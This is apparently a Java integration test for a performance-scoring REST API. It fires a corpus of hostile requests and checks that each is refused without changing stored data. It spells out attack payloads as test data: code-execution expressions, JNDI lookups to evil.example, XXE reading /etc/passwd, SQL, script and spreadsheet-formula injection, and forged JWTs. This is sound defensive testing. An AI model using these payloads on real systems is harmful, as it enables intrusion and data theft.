package cn.perfeval.scoring.api;

import cn.perfeval.scoring.TestAuth;
import cn.perfeval.scoring.TestEvents;
import cn.perfeval.testsupport.DevTokens;
import cn.perfeval.testsupport.EmbeddedInfrastructureResource;
import cn.perfeval.testsupport.HostileCorpus;
import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.Map;
import java.util.List;
import java.util.UUID;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * A corpus of hostile requests against every operation, with a valid admin token (and a few
 * hostile tokens): each must be refused with a 4xx problem+json, never a 5xx, and leave the
 * stored systems, scores, judgements and published scores as they were.
 */
@QuarkusTest
@WithTestResource(value = EmbeddedInfrastructureResource.class, initArgs = @ResourceArg(name = "database", value = "scoring"))
class HostileInputTest {

    static final DevTokens TOKENS = DevTokens.shared();
    static String unit;

    /** One hostile request: what it tries, and how it is sent. */
    record Hostile(String name, String method, String path, String contentType, byte[] body, String token) {
    }

    final List<Hostile> corpus = new ArrayList<>();

    @BeforeEach
    void seededUnitWithScoreJudgementAndPublished() {
        if (unit != null) {
            return;
        }
        unit = TestEvents.newUnit();
        String admin = TOKENS.admin();
        TestEvents.send(unit + ":2024", TestEvents.budgetEvent(unit, "敌意县", 1, TestEvents.GOLDEN_MEASURES));
        await().atMost(Duration.ofSeconds(30)).untilAsserted(() ->
                TestAuth.given(admin).get("/api/v1/units/" + unit + "/years/2024/score").then().statusCode(200));
        TestAuth.given(admin).contentType("application/json").body("{\"points\": 4, \"reason\": \"基线\", \"by\": \"评价组\"}")
                .put("/api/v1/units/" + unit + "/years/2024/judgements/xiangtan-county/B1").then().statusCode(200);
        TestAuth.given(admin).contentType("application/json").body(Examples.REVIEW_REQUEST)
                .put("/api/v1/units/" + unit + "/years/2024/reviews/xiangtan-county/D1").then().statusCode(200);
        TestAuth.given(admin).contentType("application/json").body(Examples.PUBLISHED)
                .put("/api/v1/units/" + unit + "/years/2024/published").then().statusCode(200);
    }

    // ---- building the corpus

    void json(String name, String method, String path, String body) {
        corpus.add(new Hostile(name, method, path, "application/json", body.getBytes(StandardCharsets.UTF_8), null));
    }

    void get(String name, String path) {
        corpus.add(new Hostile(name, "GET", path, null, null, null));
    }

    void token(String name, String token) {
        corpus.add(new Hostile(name, "GET", "/api/v1/systems", null, null, token));
    }

    static String escape(String s) {
        StringBuilder out = new StringBuilder();
        for (char c : s.toCharArray()) {
            switch (c) {
                case '"' -> out.append("\\\"");
                case '\\' -> out.append("\\\\");
                default -> {
                    if (c < 0x20 || (c >= 0x200B && c <= 0x206F)) {
                        out.append(String.format("\\u%04x", (int) c));
                    } else {
                        out.append(c);
                    }
                }
            }
        }
        return out.toString();
    }

    static String system(String formula) {
        return SystemResourceTest.system("h-" + UUID.randomUUID().toString().substring(0, 8), escape(formula), "");
    }

    static String validSystem() {
        return system("basicActual / basicBudget * 100");
    }

    static String judgementPath() {
        return "/api/v1/units/" + unit + "/years/2024/judgements/xiangtan-county/B1";
    }

    static String judgement(String points, String reason, String by) {
        return "{\"points\": " + points + ", \"reason\": \"" + escape(reason) + "\", \"by\": \"" + escape(by) + "\"}";
    }

    static String nested(int depth) {
        return "[".repeat(depth) + "]".repeat(depth);
    }

    void buildCorpus() {
        // formulas: expression-language escapes, forbidden functions, huge, deep, division by zero, unknown variables
        String[] formulas = {
                "T(java.lang.Runtime).getRuntime().exec('id')",
                "${T(java.lang.Runtime).getRuntime().exec(\"id\")}",
                "#{7*7}",
                "${7*7}",
                "java.lang.System.exit(0)",
                "new java.io.File(\"/etc/passwd\")",
                "\"\".getClass().forName(\"java.lang.Runtime\")",
                "this.constructor.constructor(\"return process\")()",
                "require('child_process').execSync('id')",
                "eval(\"basicActual\")",
                "Runtime.getRuntime().exec(\"calc\")",
                "${jndi:ldap://evil.example/a}",
                "SQRT(basicActual)",
                "FACT(100000)",
                "DT_NOW()",
                "STR_UPPER(\"x\")",
                "basicActual ^ 1000000",
                "basicActual % 7",
                "basicActual[0]",
                "basicActual.class",
                "'literal'",
                "\"literal\"",
                "basicActual; DROP TABLE score_result",
                "basicActual / 0",
                "1 / 0",
                "basicActual / (basicBudget - basicBudget)",
                "totalSpent / adjustedBudget * 100",
                "secretMeasure",
                "basicActual +",
                "",
                "(".repeat(5000) + "basicActual" + ")".repeat(5000),
                "(".repeat(40) + "basicActual" + ")".repeat(40),
                "basicActual + ".repeat(3000) + "1",
                "<script>alert(1)</script>",
                "basicActual\u0000",
                "basicActual\u202E / basicBudget",
                "=HYPERLINK(\"http://evil.example\")",
                "IF(TRUE, basicActual, SQRT(-1))",
        };
        for (String f : formulas) {
            json("formula " + abbreviate(f), "POST", "/api/v1/systems", system(f));
        }
        json("version formula ${...}", "POST", "/api/v1/systems/xiangtan-county/versions",
                system("${7*7}").replaceFirst("\"code\": \"[^\"]*\", ", ""));

        // indicator systems: weights, bands, unknown fields, codes, names
        String valid = validSystem();
        json("weights not summing", "POST", "/api/v1/systems", valid.replace("\"maxPoints\": 60", "\"maxPoints\": 70"));
        json("group weights over the total", "POST", "/api/v1/systems", valid.replace("\"maxPoints\": 40, \"children\"", "\"maxPoints\": 45, \"children\""));
        json("negative weight", "POST", "/api/v1/systems", valid.replace("\"maxPoints\": 10, \"formula\": \"projectActual", "\"maxPoints\": -10, \"formula\": \"projectActual"));
        json("grade band gap", "POST", "/api/v1/systems", valid.replace("\"min\": 70, \"minInclusive\": true", "\"min\": 75, \"minInclusive\": true"));
        json("band points over the maximum", "POST", "/api/v1/systems", valid.replace("\"points\": 20}", "\"points\": 200}"));
        json("scale 99", "POST", "/api/v1/systems", valid.replace("\"scale\": 2", "\"scale\": 99"));
        json("unknown field", "POST", "/api/v1/systems", valid.replaceFirst("\\{", "{\"evil\": true, "));
        json("unknown rule type", "POST", "/api/v1/systems", valid.replace("\"type\": \"passFail\"", "\"type\": \"exec\""));
        json("wrong type", "POST", "/api/v1/systems", valid.replace("\"maxPoints\": 60", "\"maxPoints\": \"lots\""));
        json("duplicate codes", "POST", "/api/v1/systems", valid.replace("\"code\": \"A2\"", "\"code\": \"A1\""));
        for (String code : new String[]{"../../etc/passwd", "'; DROP TABLE indicator_system; --", "x".repeat(65), "",
                "<b>x</b>", "${jndi:ldap://x}", "代码"}) {
            json("system code " + abbreviate(code), "POST", "/api/v1/systems",
                    valid.replaceFirst("\"code\": \"[^\"]*\"",
                            java.util.regex.Matcher.quoteReplacement("\"code\": \"" + escape(code) + "\"")));
        }
        for (String name : new String[]{"正常\u202Egnp.exe", "名称\u0007", "名称\u200B", "<img src=x onerror=alert(1)>",
                "=HYPERLINK(\"http://evil.example\",\"x\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
                "一\n二", "x".repeat(301)}) {
            json("system name " + abbreviate(name), "POST", "/api/v1/systems",
                    valid.replace("\"name\": \"自定义指标体系\"", "\"name\": \"" + escape(name) + "\""));
            json("indicator name " + abbreviate(name), "POST", "/api/v1/systems",
                    valid.replace("\"name\": \"职责履行\"", "\"name\": \"" + escape(name) + "\""));
        }
        json("grade named with a bidi override", "POST", "/api/v1/systems", valid.replace("\"grade\": \"A\"", "\"grade\": \"\u202EA\""));
        json("deeply nested JSON", "POST", "/api/v1/systems", "{\"code\": \"x\", \"groups\": " + nested(10_000) + "}");
        json("nested indicator groups", "POST", "/api/v1/systems",
                "{\"code\": \"deep\", \"name\": \"n\", \"groups\": [" + "{\"code\": \"g\", \"name\": \"g\", \"maxPoints\": 1, \"children\": [".repeat(80)
                        + "]}".repeat(80) + "]}");
        json("not JSON", "POST", "/api/v1/systems", "this is not json");
        json("truncated JSON", "POST", "/api/v1/systems", valid.substring(0, valid.length() / 2));
        json("array instead of object", "POST", "/api/v1/systems", "[" + valid + "]");
        json("null body", "POST", "/api/v1/systems", "null");
        json("empty body", "POST", "/api/v1/systems", "");
        json("version of another code", "POST", "/api/v1/systems/xiangtan-county/versions", valid);
        json("version of an unknown system", "POST", "/api/v1/systems/no-such-system/versions",
                valid.replaceFirst("\"code\": \"[^\"]*\", ", ""));
        corpus.add(new Hostile("body over 4 MB", "POST", "/api/v1/systems", "application/json",
                ("{\"code\": \"big\", \"name\": \"" + "x".repeat(5 * 1024 * 1024) + "\"}").getBytes(StandardCharsets.UTF_8), null));
        corpus.add(new Hostile("XML body", "POST", "/api/v1/systems", "application/xml",
                "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>".getBytes(StandardCharsets.UTF_8), null));
        corpus.add(new Hostile("text body", "PUT", judgementPath(), "text/plain", "points=4".getBytes(StandardCharsets.UTF_8), null));

        // judgements: out-of-range scores, control characters, bidi, injection in names, bad codes and years
        for (String points : new String[]{"6", "-1", "5.0001", "1e9", "-0.5", "99999999999999999999999999", "\"NaN\"",
                "\"Infinity\"", "null", "true", "[4]"}) {
            json("judgement points " + points, "PUT", judgementPath(), judgement(points, "理由", "评价组"));
        }
        json("points and deduction", "PUT", judgementPath(), "{\"points\": 4, \"deduction\": 1, \"reason\": \"r\", \"by\": \"e\"}");
        json("deduction over the maximum", "PUT", judgementPath(), "{\"deduction\": 6, \"reason\": \"r\", \"by\": \"e\"}");
        json("neither points nor deduction", "PUT", judgementPath(), "{\"reason\": \"r\", \"by\": \"e\"}");
        for (String reason : new String[]{"理由\u202E正常", "理由\u0000", "理由\u001b[31m红色", "理由\u2066隔离\u2069",
                "理由\uFEFF", "x".repeat(2001), "   "}) {
            json("judgement reason " + abbreviate(reason), "PUT", judgementPath(), judgement("4", reason, "评价组"));
        }
        for (String by : new String[]{"<script>alert(1)</script>", "=cmd|' /C calc'!A0", "@SUM(A1:A9)", "李明\u202E",
                "李明\n王五", "x".repeat(101)}) {
            json("judged by " + abbreviate(by), "PUT", judgementPath(), judgement("4", "理由", by));
        }
        json("evidence with control characters", "PUT", judgementPath(),
                "{\"points\": 4, \"reason\": \"r\", \"by\": \"e\", \"evidence\": \"\\u0008\\u0008\"}");
        json("judgement unknown field", "PUT", judgementPath(), "{\"points\": 4, \"reason\": \"r\", \"by\": \"e\", \"approved\": true}");
        json("judgement at not a time", "PUT", judgementPath(), "{\"points\": 4, \"reason\": \"r\", \"by\": \"e\", \"at\": \"yesterday\"}");
        json("judgement deeply nested", "PUT", judgementPath(), "{\"points\": " + nested(1000) + "}");
        json("judging a computed indicator", "PUT", judgementPath().replace("/B1", "/A1"), judgement("4", "r", "e"));
        json("judging an unknown indicator", "PUT", judgementPath().replace("/B1", "/Z9"), judgement("4", "r", "e"));
        json("judging under an unknown system", "PUT", judgementPath().replace("xiangtan-county", "nope"), judgement("4", "r", "e"));
        json("judgement SQL in the unit code", "PUT", "/api/v1/units/1%27%20OR%201%3D1--/years/2024/judgements/xiangtan-county/B1",
                judgement("4", "r", "e"));
        json("judgement lower-case unit", "PUT", "/api/v1/units/abc/years/2024/judgements/xiangtan-county/B1", judgement("4", "r", "e"));
        for (String year : new String[]{"1999", "2101", "-1", "abcd", "99999999999", "2024.5"}) {
            json("judgement year " + year, "PUT", "/api/v1/units/" + unit + "/years/" + year + "/judgements/xiangtan-county/B1",
                    judgement("4", "r", "e"));
        }

        // published scores
        String pub = "/api/v1/units/" + unit + "/years/2024/published";
        json("published negative points", "PUT", pub, Examples.PUBLISHED.replace("\"points\": 4}", "\"points\": -4}"));
        json("published negative total", "PUT", pub, Examples.PUBLISHED.replace("\"total\": 93", "\"total\": -93"));
        json("published grade formula", "PUT", pub, Examples.PUBLISHED.replace("\"grade\": \"良\"", "\"grade\": \"=1+1\""));
        json("published name bidi", "PUT", pub, Examples.PUBLISHED.replace("\"name\": \"预算调整率\"", "\"name\": \"预算\u202E调整率\""));
        json("published name markup", "PUT", pub, Examples.PUBLISHED.replace("\"name\": \"预算调整率\"", "\"name\": \"<iframe src=x>\""));
        json("published blank name", "PUT", pub, Examples.PUBLISHED.replace("\"name\": \"预算调整率\"", "\"name\": \"\""));
        json("published unknown field", "PUT", pub, Examples.PUBLISHED.replaceFirst("\\{", "{\"signedBy\": \"x\", "));
        json("published too many indicators", "PUT", pub, "{\"indicators\": ["
                + String.join(",", java.util.Collections.nCopies(501, "{\"name\": \"n\", \"points\": 1}")) + "]}");
        json("published count as fraction", "PUT", pub, "{\"total\": \"lots\"}");
        json("published year 1800", "PUT", "/api/v1/units/" + unit + "/years/1800/published", Examples.PUBLISHED);

        // assignments
        String assign = "/api/v1/counties/敌意县/years/2024/assignment";
        json("assign unknown system", "PUT", assign, "{\"systemCode\": \"nope\", \"systemVersion\": 1}");
        json("assign version 0", "PUT", assign, "{\"systemCode\": \"national-common\", \"systemVersion\": 0}");
        json("assign version 1.5", "PUT", assign, "{\"systemCode\": \"national-common\", \"systemVersion\": 1.5}");
        json("assign jndi", "PUT", assign, "{\"systemCode\": \"${jndi:ldap://evil.example/a}\", \"systemVersion\": 1}");
        json("assign SQL", "PUT", assign, "{\"systemCode\": \"' OR 1=1 --\", \"systemVersion\": 1}");
        json("assign year 1800", "PUT", "/api/v1/counties/敌意县/years/1800/assignment", "{\"systemCode\": \"national-common\", \"systemVersion\": 1}");
        json("assign county of 101 characters", "PUT", "/api/v1/counties/" + "县".repeat(101) + "/years/2024/assignment",
                "{\"systemCode\": \"national-common\", \"systemVersion\": 1}");
        json("assign empty body", "PUT", assign, "");

        // reads with hostile parameters
        get("score of an unknown system", "/api/v1/units/" + unit + "/years/2024/score?system=nope");
        get("score system jndi", "/api/v1/units/" + unit + "/years/2024/score?system=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D");
        get("score asOf not a time", "/api/v1/units/" + unit + "/years/2024/score?asOf=yesterday");
        get("score asOf SQL", "/api/v1/units/" + unit + "/years/2024/score?asOf=2024-01-01%27%3B%20DROP%20TABLE%20x%3B--");
        get("score lower-case unit", "/api/v1/units/abc/years/2024/score");
        get("score unit of 33 characters", "/api/v1/units/" + "A".repeat(33) + "/years/2024/score");
        get("score year text", "/api/v1/units/" + unit + "/years/abcd/score");
        get("score year 1999", "/api/v1/units/" + unit + "/years/1999/score");
        get("history of an unknown system", "/api/v1/units/" + unit + "/years/2024/score/history?system=%3Cscript%3E");
        get("ranking year 3000", "/api/v1/counties/敌意县/years/3000/ranking");
        get("ranking SQL system", "/api/v1/counties/敌意县/years/2024/ranking?system=%27%20OR%201%3D1%20--");
        get("inconsistencies unknown system", "/api/v1/units/" + unit + "/years/2024/inconsistencies?system=nope");
        get("version not a number", "/api/v1/systems/xiangtan-county/versions/abc");
        get("version 99", "/api/v1/systems/xiangtan-county/versions/99");
        get("unknown system", "/api/v1/systems/%3Cscript%3E");
        get("audit size 0", "/api/v1/audit?size=0");
        get("audit unit markup", "/api/v1/audit?unitCode=%3Cscript%3E");
        get("audit page text", "/api/v1/audit?page=abc");

        // hostile tokens
        String[] parts = TOKENS.admin().split("\\.");
        token("token alg none", b64("{\"alg\":\"none\",\"typ\":\"JWT\"}") + "." + parts[1] + ".");
        token("token HS256 with the public key as secret", b64("{\"alg\":\"HS256\",\"typ\":\"JWT\"}") + "." + parts[1] + "." + parts[2]);
        token("token with claims swapped in", parts[0] + "." + b64("{\"iss\":\"https://idp.perfeval.local\",\"sub\":\"x\","
                + "\"groups\":[\"admin\"],\"exp\":9999999999}") + "." + parts[2]);
        token("token of 16 KB", "A".repeat(16 * 1024));
        token("token with kid path traversal", b64("{\"alg\":\"RS256\",\"kid\":\"../../../../etc/passwd\"}") + "." + parts[1] + "." + parts[2]);
        token("token expired", TOKENS.token("admin", "admin", null, null, DevTokens.ISSUER, Duration.ofMinutes(-1)));
    }

    static String b64(String json) {
        return java.util.Base64.getUrlEncoder().withoutPadding().encodeToString(json.getBytes(StandardCharsets.UTF_8));
    }

    static String abbreviate(String s) {
        String visible = s.replaceAll("\\p{Cntrl}|[\\u200B-\\u206F\\uFEFF]", "?");
        return visible.length() > 40 ? visible.substring(0, 40) + "…" : visible;
    }

    /** What the corpus must not change, read as admin. */
    static String state() {
        String admin = TOKENS.admin();
        List<String> parts = new ArrayList<>();
        parts.add(TestAuth.given(admin).get("/api/v1/systems").then().statusCode(200).extract().asString());
        for (String code : new String[]{"xiangtan-county", "national-common", "self-evaluation-2020"}) {
            parts.add(TestAuth.given(admin).get("/api/v1/systems/" + code + "/versions").then().statusCode(200).extract().asString());
        }
        parts.add(TestAuth.given(admin).get("/api/v1/units/" + unit + "/years/2024/score").then().statusCode(200).extract().asString());
        parts.add(TestAuth.given(admin).get("/api/v1/units/" + unit + "/years/2024/score/history").then().statusCode(200).extract().asString());
        parts.add(TestAuth.given(admin).get("/api/v1/units/" + unit + "/years/2024/judgements/xiangtan-county/B1/history")
                .then().statusCode(200).extract().asString());
        parts.add(TestAuth.given(admin).get("/api/v1/units/" + unit + "/years/2024/reviews/xiangtan-county/D1/history")
                .then().statusCode(200).extract().asString());
        parts.add(TestAuth.given(admin).get("/api/v1/units/" + unit + "/years/2024/published").then().statusCode(200).extract().asString());
        parts.add(TestAuth.given(admin).get("/api/v1/counties/敌意县/years/2024/assignment").then().statusCode(200).extract().asString());
        parts.add(TestAuth.given(admin).get("/api/v1/audit?actor=admin&size=1").then().statusCode(200).extract().path("total").toString());
        return String.join("\n", parts);
    }

    /** The expected answers of the cases built above, by name (the corpus file carries its own). */
    static final Map<String, HostileCorpus.Expected> EXPECTED = HostileCorpus.expectations("hostile/scoring-coded.tsv");

    @Test
    void everyHostileRequestIsRefusedWithAProblemAndChangesNothing() {
        buildCorpus();
        String before = state();
        String admin = TOKENS.admin();
        List<HostileCorpus.Case> cases = new ArrayList<>();
        Map<String, Integer> seen = new HashMap<>();
        for (Hostile h : corpus) {
            int n = seen.merge(h.name(), 1, Integer::sum);
            String name = n == 1 ? h.name() : h.name() + " #" + n;
            cases.add(HostileCorpus.coded(name, () -> {
                RequestSpecification r = given().header("Authorization", "Bearer " + (h.token() != null ? h.token() : admin));
                if (h.contentType() != null) {
                    r.contentType(h.contentType() + (h.contentType().startsWith("text") || h.contentType().endsWith("json")
                            ? "; charset=UTF-8" : ""));
                }
                if (h.body() != null) {
                    r.body(h.body());
                }
                return r.request(h.method(), h.path());
            }, EXPECTED));
        }
        int coded = cases.size();
        Map<String, String> tokens = Map.of("admin", admin, "viewer", TOKENS.viewer(), "finance-own", TOKENS.finance(unit),
                "finance-other", TOKENS.finance("OTHER1"), "evaluator-other", TOKENS.evaluator("别的县"),
                "other-key", DevTokens.generate().admin(),
                "expired", TOKENS.token("admin", "admin", null, null, DevTokens.ISSUER, Duration.ofMinutes(-1)),
                "garbage", "raw:Bearer not.a.token");
        cases.addAll(HostileCorpus.load("hostile/scoring.jsonl", Map.of("unit", unit),
                Map.of("system", validSystem(), "published", Examples.PUBLISHED), tokens::get));
        HostileCorpus.Outcome outcome = HostileCorpus.run("scoring-service", cases);
        String after = state();
        System.out.println("HostileInputTest: scoring-service corpus " + outcome.sent() + " requests (" + coded + " built in code, "
                + (outcome.sent() - coded) + " from hostile/scoring.jsonl)");
        assertThat(outcome.failures()).isEmpty();
        assertThat(after).isEqualTo(before);
        assertThat(outcome.sent()).isGreaterThanOrEqualTo(200);
    }
}
